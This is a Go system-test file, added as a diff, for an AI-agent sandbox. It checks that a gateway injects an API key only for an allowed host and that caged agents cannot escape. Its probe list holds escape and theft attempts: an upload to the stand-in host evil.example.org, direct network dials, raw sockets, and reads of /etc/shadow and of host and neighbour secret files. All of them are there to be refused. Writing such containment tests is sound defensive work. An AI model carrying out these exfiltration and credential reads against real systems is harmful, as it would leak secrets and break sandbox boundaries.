@@ -1,0 +1,449 @@
+package system
+
+import (
+	"context"
+	"encoding/json"
+	"fmt"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/nixcage/nixcage/internal/systest"
+	"github.com/nixcage/nixcage/internal/systest/probe"
+)
+
+// realSecret is what the gateway holds for the agents' API key. It must
+// reach api.example.com and nothing else, and never be seen in a cage.
+const realSecret = "sk-systest-REAL-0123456789abcdef0123456789"
+
+// cageChecks is what every agent probes, whatever its backend. The test
+// asserts each outcome in assertCage.
+var cageChecks = []string{
+	"id",
+	"ls,/",
+	"env,API_KEY",
+	"env,HTTPS_PROXY",
+	"write,/workspace/probe-wrote",
+	"http,https://api.example.com/v1/echo,Authorization,Bearer @env:API_KEY@",
+	"http,https://evil.example.org/upload",
+	"dial,tcp,203.0.113.10:443",
+	"dial,tcp,192.0.2.1:443",
+	"dial,udp,192.0.2.1:53",
+	"dial,tcp,[2001:db8::1]:443",
+	"raw",
+	"packet",
+	"read,/etc/shadow",
+	"read,/etc/nixcage/secrets/api",
+	"unix,/run/dbus/system_bus_socket",
+	"read,/var/lib/nixcage/agents/neighbour/secret.txt",
+	"dns,api.example.com",
+	"dns,evil.example.org",
+}
+
+type agentSpec struct {
+	name, backend string
+	checks        []string
+}
+
+// cageConfig is the system tests' configuration: one policy, one API key
+// bound to api.example.com, agents running the probe.
+func cageConfig(agents ...agentSpec) string {
+	var b strings.Builder
+	b.WriteString(`egress_policy "systest" {
+  allow   = ["api.example.com", "other.example.net"]
+  deny    = ["evil.example.org"]
+  inspect = ["api.example.com", "other.example.net"]
+}
+`)
+	for _, a := range agents {
+		cmd, _ := json.Marshal(append([]string{"/usr/local/bin/cage-probe"}, a.checks...))
+		fmt.Fprintf(&b, `
+agent %q {
+  backend = %q
+  egress  = "systest"
+  command = %s
+  resources {
+    memory = "256M"
+    tasks  = 64
+  }
+  secret "api" {
+    source = "/etc/nixcage/secrets/api"
+    env    = "API_KEY"
+    hosts  = ["api.example.com"]
+  }
+}
+`, a.name, a.backend, cmd)
+	}
+	return b.String()
+}
+
+// workarounds get the harness past known mismatches between components.
+var workarounds = systest.KnownWorkarounds()
+
+type cageEnv struct {
+	m  *systest.Machine
+	in *systest.Internet
+}
+
+// bootNixcage boots a machine with the fake internet and nixcage installed
+// from a rendered config.
+func bootNixcage(t *testing.T, agents ...agentSpec) *cageEnv {
+	t.Helper()
+	bins := systest.Binaries{
+		"cagectl":    systest.BuildT(t, "./cmd/cagectl"),
+		"cage-probe": systest.BuildT(t, probePkg),
+	}
+	root, err := systest.ModuleRoot()
+	if err != nil {
+		t.Fatal(err)
+	}
+	switch {
+	case systest.PrebuiltEgress() != "":
+		bins["cage-egress"] = systest.PrebuiltEgress()
+	case fileExists(filepath.Join(root, "cmd/cage-egress/main.go")):
+		bins["cage-egress"] = systest.BuildT(t, "./cmd/cage-egress")
+	default:
+		t.Skip("cage-egress is not on this branch yet (set NIXCAGE_SYSTEST_CAGE_EGRESS=/path/to/cage-egress to use a build from elsewhere)")
+	}
+	m := systest.BootT(t)
+	in := systest.StartInternetT(t, m)
+	cfg := filepath.Join(t.TempDir(), "cages.hcl")
+	if err := os.WriteFile(cfg, []byte(cageConfig(agents...)), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	if err := systest.InstallNixcage(ctx, m, bins, cfg, map[string]string{"/etc/nixcage/secrets/api": realSecret}); err != nil {
+		t.Fatal(err)
+	}
+	for _, w := range workarounds {
+		t.Logf("WORKAROUND (report to the owner, remove when fixed): %s", w.Why)
+		if err := w.Apply(ctx, m); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return &cageEnv{m: m, in: in}
+}
+
+func fileExists(p string) bool {
+	_, err := os.Stat(p)
+	return err == nil
+}
+
+// runAgent starts an agent whose command is the probe, waits for it to
+// finish and returns its results by check.
+func (e *cageEnv) runAgent(t *testing.T, agent string) map[string]probe.Result {
+	t.Helper()
+	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
+	defer cancel()
+	unit := systest.AgentUnit(agent)
+	if _, err := e.m.Run(ctx, "systemctl", "start", unit); err != nil {
+		diag := e.unitDiag(agent)
+		skipKnown(t, diag)
+		t.Fatalf("start %s: %v\n%s", unit, err, diag)
+	}
+	st, err := e.m.WaitInactive(ctx, unit)
+	if err != nil {
+		diag := e.unitDiag(agent)
+		skipKnown(t, diag)
+		t.Fatalf("%v\n%s", err, diag)
+	}
+	journal, err := e.m.Journal(ctx, unit)
+	if err != nil {
+		t.Fatal(err)
+	}
+	rs, err := probe.Parse(journal)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if st.Result != "success" || len(rs) == 0 {
+		diag := e.unitDiag(agent)
+		skipKnown(t, diag)
+		t.Fatalf("%s ended %s/%s (result %s) with %d probe results\n%s", unit, st.Active, st.Sub, st.Result, len(rs), e.unitDiag(agent))
+	}
+	got := map[string]probe.Result{}
+	for _, r := range rs {
+		got[r.Check] = r
+	}
+	return got
+}
+
+// unitDiag collects what an operator would look at when a cage fails.
+func (e *cageEnv) unitDiag(agent string) string {
+	ctx := context.Background()
+	var b strings.Builder
+	for _, u := range []string{"nixcage-netns@" + agent, "nixcage-prep@" + agent, systest.ProxySocket(agent), systest.DNSSocket(agent), systest.EgressUnit(agent), systest.AgentUnit(agent)} {
+		st, _ := e.m.UnitState(ctx, u)
+		j, _ := e.m.Run(ctx, "journalctl", "--no-pager", "-b", "-n", "30", "-u", u)
+		fmt.Fprintf(&b, "== %s: %s/%s result=%s\n%s\n", u, st.Active, st.Sub, st.Result, j)
+	}
+	return b.String()
+}
+
+// auditRecords reads the gateway's JSONL audit for an agent.
+func (e *cageEnv) auditRecords(t *testing.T, agent string) []map[string]any {
+	t.Helper()
+	data, err := e.m.ReadFile(systest.AuditLog(agent))
+	if err != nil {
+		t.Fatalf("audit log: %v", err)
+	}
+	var rs []map[string]any
+	for _, line := range strings.Split(strings.TrimSpace(string(data)), "\n") {
+		if line == "" {
+			continue
+		}
+		var r map[string]any
+		if err := json.Unmarshal([]byte(line), &r); err != nil {
+			t.Fatalf("audit line %q: %v", line, err)
+		}
+		rs = append(rs, r)
+	}
+	return rs
+}
+
+// assertCage checks every outcome of cageChecks for one agent.
+func (e *cageEnv) assertCage(t *testing.T, agent string, got map[string]probe.Result, identity func(id string) error) {
+	t.Helper()
+	defer func() {
+		if t.Failed() {
+			for c, r := range got {
+				t.Logf("probe %s: %+v", c, r)
+			}
+		}
+	}()
+	res := func(c string) probe.Result {
+		r, ok := got[c]
+		if !ok {
+			t.Fatalf("probe did not report %q", c)
+		}
+		return r
+	}
+	fails := func(c string, errnos ...string) {
+		t.Helper()
+		r := res(c)
+		if r.OK {
+			t.Errorf("%s: succeeded inside the cage (%s), want a refusal", c, r.Detail)
+			return
+		}
+		if len(errnos) == 0 {
+			return
+		}
+		for _, e := range errnos {
+			if r.Errno == e {
+				return
+			}
+		}
+		t.Errorf("%s: errno %q (%s), want one of %v", c, r.Errno, r.Error, errnos)
+	}
+
+	// Identity: no capabilities, not the host's root.
+	id := res("id").Detail
+	if err := identity(id); err != nil {
+		t.Errorf("agent identity: %v (%s)", err, id)
+	}
+	if !strings.Contains(id, "CapEff: 0000000000000000") {
+		t.Errorf("agent has capabilities: %s", id)
+	}
+	// The cage's root is its own: the host's /boot, /home or /root are not in it.
+	hostRoot := false
+	for _, n := range strings.Fields(res("ls,/").Detail) {
+		if n == "boot" || n == "home" || n == "srv" {
+			hostRoot = true
+		}
+	}
+	if hostRoot {
+		softKnown(t, "service-root-visible", "the cage's / is the host's ("+res("ls,/").Detail+")")
+	}
+	// hostFails is fails for checks the host-root issue defeats.
+	hostFails := func(c string) {
+		t.Helper()
+		if hostRoot && res(c).OK {
+			softKnown(t, "service-root-visible", c+" succeeded")
+			return
+		}
+		fails(c)
+	}
+	if r := res("write,/workspace/probe-wrote"); !r.OK {
+		t.Errorf("workspace not writable: %s", r.Error)
+	}
+
+	// The cage holds a placeholder of the real key's length, never the key.
+	placeholder := res("env,API_KEY").Detail
+	if placeholder == "" || placeholder == realSecret || len(placeholder) != len(realSecret) {
+		t.Errorf("API_KEY in the cage = %q; want a placeholder as long as the real value", placeholder)
+	}
+	if p := res("env,HTTPS_PROXY").Detail; p != "http://127.0.0.1:3128" {
+		t.Errorf("HTTPS_PROXY = %q", p)
+	}
+
+	// Allowed request: reaches the upstream with the real key; the response
+	// the cage sees has it redacted back to the placeholder.
+	api := res("http,https://api.example.com/v1/echo,Authorization,Bearer @env:API_KEY@")
+	if !api.OK || api.Status != 200 {
+		t.Errorf("allowed request failed: status %d err %q body %q", api.Status, api.Error, api.Body)
+	}
+	if strings.Contains(api.Body, realSecret) {
+		t.Errorf("the real key came back into the cage: %s", api.Body)
+	}
+	if !strings.Contains(api.Body, "Bearer "+placeholder) {
+		t.Errorf("echoed Authorization is not the placeholder: %s", api.Body)
+	}
+	// Denied request: refused by the gateway.
+	if r := res("http,https://evil.example.org/upload"); r.OK && r.Status < 400 {
+		t.Errorf("request to a denied host succeeded: %+v", r)
+	}
+
+	// No route: direct connections fail in the kernel, to the upstream's
+	// real address too.
+	for _, c := range []string{"dial,tcp,203.0.113.10:443", "dial,tcp,192.0.2.1:443", "dial,udp,192.0.2.1:53", "dial,tcp,[2001:db8::1]:443"} {
+		fails(c, "ENETUNREACH")
+	}
+	fails("raw", "EPERM", "EAFNOSUPPORT", "EACCES")
+	fails("packet", "EPERM", "EAFNOSUPPORT", "EACCES")
+
+	// Host files, the bus, other workspaces.
+	hostFails("read,/etc/shadow")
+	hostFails("read,/etc/nixcage/secrets/api")
+	hostFails("unix,/run/dbus/system_bus_socket")
+	fails("read,/var/lib/nixcage/agents/neighbour/secret.txt")
+
+	// DNS through the gateway: allowed names only.
+	if r := res("dns,api.example.com"); !r.OK || r.Detail != "203.0.113.10" {
+		t.Errorf("dns api.example.com = %q (%s), want 203.0.113.10", r.Detail, r.Error)
+	}
+	fails("dns,evil.example.org")
+
+	// What left: the upstream got the real key on the allowed request and
+	// nothing at all from the denied host.
+	reqs, err := e.in.Requests()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var sawAPI bool
+	for _, r := range reqs {
+		switch {
+		case r.Kind == "https" && r.Host == "api.example.com" && r.Path == "/v1/echo":
+			sawAPI = true
+			if got := strings.Join(r.Headers["Authorization"], ","); got != "Bearer "+realSecret {
+				t.Errorf("upstream got Authorization %q, want the real key injected", got)
+			}
+		case r.Host == "evil.example.org" || r.SNI == "evil.example.org" || strings.HasPrefix(r.Name, "evil.example.org"):
+			t.Errorf("the denied host was contacted: %+v", r)
+		}
+		if strings.Contains(r.Body, placeholder) && placeholder != "" {
+			t.Errorf("a placeholder left the cage: %+v", r)
+		}
+	}
+	if !sawAPI {
+		t.Errorf("the allowed request never reached the upstream: %+v", reqs)
+	}
+
+	// Audit: the denied request is recorded as blocked, the allowed one as
+	// allowed with the secret injected, and no record holds the key.
+	audit := e.auditRecords(t, agent)
+	var blocked, injected bool
+	for _, r := range audit {
+		line, _ := json.Marshal(r)
+		if strings.Contains(string(line), realSecret) {
+			t.Errorf("audit record holds the real key: %s", line)
+		}
+		switch {
+		case r["host"] == "evil.example.org" && r["decision"] == "blocked":
+			blocked = true
+		case r["host"] == "api.example.com" && r["decision"] == "allowed" && r["path"] == "/v1/echo":
+			inj, _ := json.Marshal(r["secrets_injected"])
+			injected = strings.Contains(string(inj), `"api"`)
+		}
+	}
+	if !blocked || !injected {
+		t.Errorf("audit lacks a blocked evil.example.org record (%v) or an allowed /v1/echo record with secret api injected (%v):\n%v", blocked, injected, audit)
+	}
+}
+
+// dynamicUser accepts an agent running as a DynamicUser= account.
+func dynamicUser(id string) error {
+	m := regexp.MustCompile(`Uid: (\d+)`).FindStringSubmatch(id)
+	if m == nil {
+		return fmt.Errorf("no uid")
+	}
+	if uid, _ := strconv.Atoi(m[1]); uid < 61184 || uid > 65519 {
+		return fmt.Errorf("uid %d is not a dynamic user (61184-65519)", uid)
+	}
+	return nil
+}
+
+// userNamespace accepts an agent whose users map to an unprivileged range of
+// the host (nspawn --private-users, podman --userns).
+func userNamespace(id string) error {
+	m := regexp.MustCompile(`uid_map: (\d+) (\d+) (\d+)`).FindStringSubmatch(id)
+	if m == nil {
+		return fmt.Errorf("no uid map")
+	}
+	if outer, _ := strconv.Atoi(m[2]); m[1] != "0" || outer == 0 || m[3] == "4294967295" {
+		return fmt.Errorf("uid map %s %s %s is not a private range", m[1], m[2], m[3])
+	}
+	return nil
+}
+
+// neighbour is a second agent that leaves a file in its own workspace.
+var neighbour = agentSpec{name: "neighbour", backend: "service", checks: []string{"write,/workspace/secret.txt"}}
+
+func runCageScenario(t *testing.T, backend string, identity func(string) error) (*cageEnv, string) {
+	agent := map[string]string{"service": "svc", "nspawn": "nsp", "podman": "pod"}[backend]
+	e := bootNixcage(t, agentSpec{name: agent, backend: backend, checks: cageChecks}, neighbour)
+	e.runAgent(t, neighbour.name)
+	got := e.runAgent(t, agent)
+	e.assertCage(t, agent, got, identity)
+	return e, agent
+}
+
+// TestServiceCage runs the probe as a service-backend agent.
+func TestServiceCage(t *testing.T) {
+	e, agent := runCageScenario(t, "service", dynamicUser)
+	// The workspace write landed on the host.
+	if _, err := e.m.ReadFile("/var/lib/nixcage/agents/" + agent + "/probe-wrote"); err != nil {
+		t.Errorf("workspace write not visible on the host: %v", err)
+	}
+}
+
+// TestNspawnCage runs the probe under the nspawn backend.
+func TestNspawnCage(t *testing.T) {
+	runCageScenario(t, "nspawn", userNamespace)
+}
+
+// TestPodmanCage runs the probe under the podman backend.
+func TestPodmanCage(t *testing.T) {
+	m := systest.BootT(t)
+	if why := podmanUnsupported(t, m); why != "" {
+		t.Skip(why)
+	}
+	m.Close()
+	runCageScenario(t, "podman", userNamespace)
+}
+
+// podmanUnsupported says why this host cannot run the podman backend in a
+// machine, or "". runc needs the pids (and for limits memory) controllers in
+// the machine's cgroup, and the rendered --ulimit=nofile=65536 needs a hard
+// limit at least that high; hosts that bind every controller to cgroup v1,
+// or sandboxes with a low nofile limit, have neither.
+func podmanUnsupported(t *testing.T, m *systest.Machine) string {
+	ctrl := " " + strings.Join(strings.Fields(m.MustRun(t, "cat", "/sys/fs/cgroup/cgroup.controllers")), " ") + " "
+	for _, c := range []string{"pids", "memory"} {
+		if !strings.Contains(ctrl, " "+c+" ") {
+			return "this host gives the test machine no " + c + " cgroup controller (all bound to cgroup v1), which runc needs; run on a host with a unified cgroup hierarchy"
+		}
+	}
+	limits := m.MustRun(t, "cat", "/proc/1/limits")
+	for _, line := range strings.Split(limits, "\n") {
+		if f := strings.Fields(line); strings.HasPrefix(line, "Max open files") && len(f) >= 5 {
+			if n, err := strconv.Atoi(f[4]); err == nil && n < 65536 {
+				return fmt.Sprintf("the test machine's open-files hard limit is %d, below the podman unit's --ulimit=nofile=65536", n)
+			}
+		}
+	}
+	return ""
+}
